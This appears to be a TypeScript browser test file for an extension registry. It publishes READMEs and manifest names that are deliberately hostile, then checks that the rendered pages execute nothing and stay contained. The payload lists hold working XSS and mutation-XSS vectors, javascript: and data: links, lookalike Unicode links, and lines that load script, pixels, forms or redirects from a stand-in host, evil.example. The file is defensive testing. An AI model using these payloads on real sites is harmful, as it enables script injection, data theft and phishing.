import { extensionFiles, writeFiles } from '@orchestra/testkit';
import { launchBrowser } from '@orchestra/testkit/browser';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openPage } from '../open-page.ts';
import type { RegistryWorld } from './registry-world.ts';
import { settlePage } from '../settle-page.ts';

/** READMEs that attack, by what they try. The page has the heading "After" only where all was read. */
const readmes = {
  scripts: [
    '<script>window.ran = 1</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror="window.ran = 1">',
    '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
    '<details open ontoggle="window.ran = 1"><summary>More</summary></details>',
    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    '<object data="javascript:window.ran = 1"></object>',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></mglyph></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.ran = 1">',
  ],
  links: [
    '[one](javascript:window.ran=1)',
    '<a href="java&#10;script:window.ran=1">two</a>',
    '[three](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)',
    '<a href="vbscript:x" target="_top">four</a>',
    '![five](javascript:window.ran=1) ![six](data:image/svg+xml;base64,PHN2Zy8+)',
    '![seven](https://evil.example/pixel.png) <img src="//evil.example/pixel.gif">',
    '<area href="javascript:window.ran=1"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=q><button>Send</button></form>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
  ],
  styles: [
    '<div style="position:fixed;inset:0;z-index:9999;background:red">over everything</div>',
    '<style>.button { display: none } body { background: url(https://evil.example/) }</style>',
    '<p class="notice extension-act">the page’s own class</p>',
    '<p id="main">the page’s own id</p>',
    `<p>${'M'.repeat(4000)}</p>`,
    `<table><tr>${'<td>a wide cell</td>'.repeat(200)}</tr></table>`,
    '<font size="7">large</font><marquee>moving</marquee><blink>x</blink>',
    `<pre>${'x'.repeat(3000)}</pre>`,
  ],
  unclosed: [
    'text <b><i><a href="https://host.example/">a link that never ends',
    '</div></section></main></body></html>',
    '<table><tr><td><div>',
    '<!-- a comment that never ends -- > --!> <select><option><textarea><title>',
    '<plaintext>',
  ],
  nested: ['<div>'.repeat(3_000), '<blockquote><ul><li>'.repeat(500), '>'.repeat(1_000)],
  lookalikes: [
    '[https://github.com/](https://gіthub.example/)',
    '‮txet desrever‬ a\u200bb\u200cc ﷽ 𒐫 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!̿̋ͥͥ̂ͣ̐́́͜͞',
    '&#0; &#x202e; &lt;script&gt;window.ran = 1&lt;/script&gt;',
  ],
} as const;

/** Texts of the manifest that end up in attributes, titles, feeds and data blocks. */
const displayName = '"><script>window.ran=1</script>';
const description =
  '</script><script>window.ran=1</script>\'"><img src=x onerror=window.ran=1> ]]> --> &amp;';

/** READMEs and names of extensions that attack whoever looks at their page. */
export function testHostileTexts(registry: () => RegistryWorld): void {
  let browser: Browser;
  let site: string;

  beforeAll(async () => {
    const { folder, token, cliOf, server } = registry();
    site = server().url;
    browser = await launchBrowser();
    const env = { ORCHESTRA_TOKEN: token };
    const cli = cliOf('hostile-home');
    for (const [kind, parts] of Object.entries(readmes)) {
      const name = `tide-${kind}`;
      await writeFiles(folder.join(name), {
        ...extensionFiles({ name, version: '1.0.0', displayName, description }),
        'README.md': `Before\n\n${parts.join('\n\n')}\n`,
      });
      const published = await cli(['publish', '-C', folder.join(name), '--json'], { env });
      expect(published).toMatchObject({ exitCode: 0 });
    }
    for (const kind of Object.keys(readmes)) await untilServed(`/extensions/tide-${kind}/`);
  });
  afterAll(() => browser.close());

  async function untilServed(path: string): Promise<void> {
    for (;;) {
      const response = await fetch(site + path);
      await response.text();
      if (response.ok) return;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  }

  test.each(Object.keys(readmes))(
    'a README with %s runs nothing and stays in its box',
    async (kind) => {
      const url = `${site}/extensions/tide-${kind}/`;
      const { page, complaints } = await openPage(browser, {
        url,
        viewport: { width: 1280, height: 900 },
      });
      await page.locator('.prose, .plain-text').first().scrollIntoViewIfNeeded();
      for (const link of await page.locator('#readme ~ * details summary').all())
        await link.click();
      await settlePage(page);
      expect(await page.evaluate('window.ran')).toBeUndefined();
      expect(complaints).toEqual([]);
      expect(new URL(page.url()).pathname).toBe(`/extensions/tide-${kind}/`);
      expect(await page.evaluate(findEscapes)).toEqual([]);
      expect(await page.locator('h1').textContent()).toContain(displayName);
      await page.getByRole('button', { name: 'Copy command' }).click({ trial: true });
    },
  );

  test.each(['/', '/search/?q=tide', '/nowhere/'])('%s shows such names as text', async (path) => {
    const { page, complaints } = await openPage(browser, { url: site + path });
    await settlePage(page);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(complaints.filter((complaint) => !complaint.includes('404'))).toEqual([]);
  });
}

/** In the page: what of a README lies outside of its box, or makes the page scroll sideways. */
const findEscapes = `(() => {
  const box = document.querySelector('.prose').getBoundingClientRect();
  const scrolls = (element) => {
    for (let at = element.parentElement; at !== null; at = at.parentElement)
      if (getComputedStyle(at).overflowX !== 'visible') return true;
    return false;
  };
  const escaped = [...document.querySelectorAll('.prose *')].filter((element) => {
    const { left, right } = element.getBoundingClientRect();
    const { position } = getComputedStyle(element);
    const out = left < box.left - 40 || right > box.right + 1;
    return ['fixed', 'sticky'].includes(position) || (out && !scrolls(element));
  });
  const wide = document.documentElement.scrollWidth > document.documentElement.clientWidth;
  return [...escaped.map((element) => element.outerHTML.slice(0, 80)), ...(wide ? ['the page'] : [])];
})()`;
